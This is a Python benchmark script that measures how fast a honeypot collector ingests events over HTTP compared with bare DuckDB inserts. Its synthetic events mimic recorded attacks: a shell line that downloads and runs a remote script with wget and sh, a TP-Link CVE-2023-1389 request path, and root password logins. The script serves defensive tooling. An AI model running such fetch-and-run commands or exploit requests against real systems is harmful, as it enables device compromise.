"""Collector ingest rate over its HTTP API, against the bare DuckDB insert rate of the same events.

A real collector (`honeyguard server run`) on loopback; a client in another process posts gzip
NDJSON batches over several connections at once. The reference, measured in the same run, inserts
the same events (already decoded and laid out as Arrow columns) straight into DuckDB: the ratio is
what HTTP, gzip, decoding, validation and column building cost on top of the insert itself.

    .venv/bin/python benchmarks/bench_ingest.py [--quick] [--live] [--src DIR]

The events are dated 2026-09-01: by now their indicators have decayed under every policy floor,
so the defense loop folds them but decides nothing. ``--live`` dates them up to now (figure
``collector_ingest_http_live``): most sources then get a decision, renewed as they come back.

The code measured (this process, the collector and the client) is ``--src DIR``, else the first
entry of an explicit PYTHONPATH, else this tree's ``src``: an older copy (``git worktree add``)
can be measured beside the current one.
"""

from __future__ import annotations

import argparse
import asyncio
import gzip
import json
import os
import resource
import subprocess
import sys
import tempfile
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]


def _source_tree(argv: list[str]) -> Path:
    """``--src DIR``, else the first PYTHONPATH entry, else this tree's src (read before argparse:
    the imports below come from it)."""
    if "--src" in argv[:-1]:
        return Path(argv[argv.index("--src") + 1]).resolve()
    given = os.environ.get("PYTHONPATH", "").split(os.pathsep)[0]
    return Path(given).resolve() if given else ROOT / "src"


SRC = _source_tree(sys.argv)
sys.path.insert(0, str(SRC))

from honeyguard.clock import SeededEntropy  # noqa: E402
from honeyguard.model import (  # noqa: E402
    Connect,
    Event,
    HttpRequest,
    Ioc,
    SshCommand,
    SshLogin,
    UuidV7Factory,
    encode_event,
)

SENSOR = "bench-sensor"


def make_bodies(total: int, batch: int, out: Path, *, live: bool = False) -> list[Path]:
    """gzip NDJSON files of ``batch`` varied, realistic events each, ids unique and time-ordered.
    The events are dated 2026-09-01, or with ``live`` up to now: then their indicators have not
    decayed, and the defense loop decides and renews (most sources end with an alert)."""
    ids = UuidV7Factory(SeededEntropy(42))
    start = datetime(2026, 9, 1, tzinfo=UTC)
    if live:
        start = datetime.now(UTC) - timedelta(microseconds=total * 20)
    paths = []
    for number in range(0, total, batch):
        lines = []
        for i in range(number, min(total, number + batch)):
            lines.append(encode_event(_event(ids, start + timedelta(microseconds=i * 20), i)))
        path = out / f"batch-{number // batch:05d}.ndjson.gz"
        path.write_bytes(gzip.compress(b"\n".join(lines), compresslevel=1))
        paths.append(path)
    return paths


def _event(ids: UuidV7Factory, ts: datetime, i: int) -> Event:
    common = dict(
        id=ids.new(ts),
        ts=ts,
        sensor=SENSOR,
        location="bench",
        session=f"s{i // 4}",
        src_ip=f"198.18.{i % 251}.{i % 241}",
        src_port=30000 + i % 30000,
    )
    match i % 4:
        case 0:
            return Event(**common, kind="connect", dst_port=8080, protocol="tcp", body=Connect())  # type: ignore[arg-type]
        case 1:
            body = HttpRequest(
                method="GET",
                target=f"/cgi-bin/luci/;stok=/locale?form=country&q={i}",
                version="1.1",
                headers=[("Host", "10.0.0.1"), ("User-Agent", "Mozila/5.0")],
                status=404,
            )
            return Event(
                **common,
                kind="http.request",
                dst_port=8080,
                protocol="http",  # type: ignore[arg-type]
                persona="apache-ubuntu",
                body=body,
                rules=["tplink-cve-2023-1389"],
                cves=["CVE-2023-1389"],
                techniques=["T1190"],
                iocs=[Ioc(type="url", value=f"http://203.0.113.{i % 200}/x.sh", role="download")],
            )
        case 2:
            return Event(
                **common,
                kind="ssh.login",
                dst_port=2222,
                protocol="ssh",  # type: ignore[arg-type]
                body=SshLogin(username="root", method="password", password=f"pw{i}"),
            )
        case _:
            return Event(
                **common,
                kind="ssh.command",
                dst_port=2222,
                protocol="ssh",  # type: ignore[arg-type]
                body=SshCommand(line=f"cd /tmp; wget http://203.0.113.9/{i}.sh; sh {i}.sh", channel="shell"),
            )


# -- the client process -----------------------------------------------------------------------


async def _post_all(url: str, token: str, paths: list[Path], concurrency: int) -> dict[str, float]:
    import httpx

    bodies = [p.read_bytes() for p in paths]
    queue: asyncio.Queue[bytes] = asyncio.Queue()
    for body in bodies:
        queue.put_nowait(body)
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/x-ndjson", "Content-Encoding": "gzip"}
    accepted = busy = 0

    async def worker(client: httpx.AsyncClient) -> None:
        nonlocal accepted, busy
        while not queue.empty():
            body = queue.get_nowait()
            while True:  # as the sensor's shipper does: 503 means retry after Retry-After
                response = await client.post(url + "/api/v1/events", content=body, headers=headers)
                if response.status_code != 503:
                    break
                busy += 1
                await asyncio.sleep(float(response.headers.get("retry-after", "1")))
            response.raise_for_status()
            accepted += response.json()["accepted"]

    limits = httpx.Limits(max_connections=concurrency)
    async with httpx.AsyncClient(timeout=120, limits=limits, trust_env=False) as client:
        started = time.perf_counter()
        await asyncio.gather(*(worker(client) for _ in range(concurrency)))
        elapsed = time.perf_counter() - started
    return {"elapsed": elapsed, "accepted": accepted, "busy": busy}


def client_main(argv: list[str]) -> None:
    url, token, folder, concurrency = argv
    paths = sorted(Path(folder).glob("batch-*.ndjson.gz"))
    print(json.dumps(asyncio.run(_post_all(url, token, paths, int(concurrency)))))


# -- the collector and the reference ----------------------------------------------------------


def _free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _honeyguard(*args: str) -> list[str]:
    return [sys.executable, "-m", "honeyguard.cli.main", *args]


def http_rate(
    work: Path, bodies: Path, total: int, concurrency: int
) -> tuple[float, float, float, float, int, float, float]:
    """events/s over HTTP; the collector's CPU seconds while the client posted; its CPU seconds until
    it went idle after (the defense loop folds and decides after each commit, so it may lag the
    acknowledgements); how long that catching up took; how many posts were answered 503 (the
    defense backlog over server.defense_backlog) and retried; the collector's peak RSS; and the
    client's CPU seconds (it shares the two cores)."""
    port = _free_port()
    data = work / "collector"
    data.mkdir()
    config = data / "config.yaml"
    config.write_text(f"data_dir: {data}\nserver: {{host: 127.0.0.1, port: {port}}}\n", encoding="utf-8")
    env = {**os.environ, "PYTHONPATH": str(SRC)}
    token = subprocess.run(
        _honeyguard("sensor", "add", SENSOR, "--config", str(config)),
        env=env,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    ready = data / "ready"
    server = subprocess.Popen(
        _honeyguard("server", "run", "--config", str(config), "--ready-file", str(ready)),
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
    )
    try:
        deadline = time.monotonic() + 60
        while not ready.exists():
            if server.poll() is not None or time.monotonic() > deadline:
                raise SystemExit(f"collector did not start: {server.stderr.read() if server.stderr else ''}")
            time.sleep(0.05)
        cpu_before = _cpu_seconds(server.pid)
        client_before = _children_cpu_seconds()
        result = subprocess.run(
            [sys.executable, __file__, "--client", f"http://127.0.0.1:{port}", token, str(bodies), str(concurrency)],
            env=env,
            capture_output=True,
            text=True,
            check=True,
        )
        figures = json.loads(result.stdout)
        figures["client_cpu"] = _children_cpu_seconds() - client_before
        collector_cpu = _cpu_seconds(server.pid) - cpu_before
        settled = time.perf_counter()
        _wait_idle(server.pid)
        settled_cpu, catch_up = _cpu_seconds(server.pid) - cpu_before, time.perf_counter() - settled
        peak_mb = _peak_rss_mb(server.pid)
    finally:
        server.terminate()
        server.wait(60)
    from honeyguard.store.events import EventStore

    store = EventStore(data / "events.duckdb", read_only=True)
    stored = store.count(distinct=True)
    store.close()
    if figures["accepted"] != total or stored != total:
        raise SystemExit(f"ingest lost events: accepted {figures['accepted']}, stored {stored}, sent {total}")
    rate = total / figures["elapsed"]
    return rate, collector_cpu, settled_cpu, catch_up, int(figures["busy"]), peak_mb, figures["client_cpu"]


def _children_cpu_seconds() -> float:
    """User + system CPU time of the waited-for child processes so far."""
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return usage.ru_utime + usage.ru_stime


def _wait_idle(pid: int, timeout: float = 300.0) -> None:
    """Until the process uses under 2% of a core over half a second (or ``timeout``)."""
    deadline = time.monotonic() + timeout
    last = _cpu_seconds(pid)
    while time.monotonic() < deadline:
        time.sleep(0.5)
        now = _cpu_seconds(pid)
        if now - last < 0.01:
            return
        last = now


def _peak_rss_mb(pid: int) -> float:
    """The process's peak resident memory so far (VmHWM), in MB."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    return 0.0


def _cpu_seconds(pid: int) -> float:
    """User + system CPU time of a process so far (all its threads), from /proc."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def bare_insert_rate(work: Path, paths: list[Path]) -> tuple[float, float]:
    from honeyguard.server.decode import decode_events
    from honeyguard.store.events import EventBatch, EventStore

    batches = [EventBatch.from_events(*decode_events(gzip.decompress(p.read_bytes()))) for p in paths]
    store = EventStore(work / "bare.duckdb")
    started, cpu_started = time.perf_counter(), time.process_time()
    for batch in batches:
        store.insert(batch)
    elapsed, cpu = time.perf_counter() - started, time.process_time() - cpu_started
    total = store.count()
    store.close()
    return total / elapsed, cpu


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--quick", action="store_true", help="a short run (200,000 events)")
    parser.add_argument("--events", type=int, default=None)
    parser.add_argument("--batch", type=int, default=5000)
    parser.add_argument("--concurrency", type=int, default=4)
    parser.add_argument("--live", action="store_true", help="events dated up to now: the decisions are made")
    parser.add_argument("--src", help="the code to measure (default: PYTHONPATH's first entry, else this tree)")
    args = parser.parse_args()
    total = args.events or (200_000 if args.quick else 1_000_000)
    with tempfile.TemporaryDirectory(prefix="bench-ingest-") as folder:
        work = Path(folder)
        bodies = work / "bodies"
        bodies.mkdir()
        paths = make_bodies(total, args.batch, bodies, live=args.live)
        figures = http_rate(work, bodies, total, args.concurrency)
        rate, collector_cpu, settled_cpu, catch_up, busy, peak_mb, client_cpu = figures
        bare, bare_cpu = bare_insert_rate(work, paths)
        load = os.getloadavg()[0]
    print(
        json.dumps(
            {
                "figure": "collector_ingest_http_live" if args.live else "collector_ingest_http",
                "value": round(rate),
                "unit": "events/s",
                "reference": {
                    "name": "bare DuckDB insert of the same events (no HTTP, no decode)",
                    "value": round(bare),
                    "unit": "events/s",
                },
                "ratio": round(rate / bare, 3),
                "target": ">= 100000 events/s",
                "params": {
                    "events": total,
                    "batch": args.batch,
                    "concurrent_posts": args.concurrency,
                    "encoding": "gzip ndjson",
                    "cores": os.cpu_count(),
                    "quick": args.quick,
                    "events_dated": "up to now" if args.live else "2026-09-01",
                    "client": "another process (httpx)",
                    "src": str(SRC),
                    # CPU time is steadier than wall time on a shared machine: events per CPU-second
                    "collector_cpu_us_per_event": round(collector_cpu / total * 1e6, 2),
                    # the same until the collector went idle: the defense loop's lag included
                    "collector_cpu_us_per_event_settled": round(settled_cpu / total * 1e6, 2),
                    "defense_catch_up_s": round(catch_up, 2),
                    "client_cpu_us_per_event": round(client_cpu / total * 1e6, 2),
                    "busy_answers_retried": busy,
                    "collector_peak_rss_mb": round(peak_mb),
                    "bare_insert_cpu_us_per_event": round(bare_cpu / total * 1e6, 2),
                    "load_average_1m": round(load, 2),
                },
            }
        ),
        flush=True,
    )


if __name__ == "__main__":
    if len(sys.argv) > 1 and sys.argv[1] == "--client":
        client_main(sys.argv[2:])
    else:
        main()
